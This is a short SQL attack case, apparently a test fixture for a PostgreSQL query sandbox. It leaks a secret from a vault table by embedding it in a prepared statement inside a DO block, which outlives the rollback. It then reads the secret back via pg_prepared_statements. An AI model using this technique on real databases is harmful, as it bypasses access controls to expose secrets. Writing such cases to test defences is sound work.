-- Prepares a statement that holds the secret inside a DO block: PREPARE outlives the rollback.
-- wants: read
-- attack:
DO $$ BEGIN EXECUTE format('PREPARE p AS SELECT %L', (SELECT secret FROM vlt_account WHERE id = 1)); END $$;
SELECT statement FROM pg_prepared_statements;
EXECUTE p;
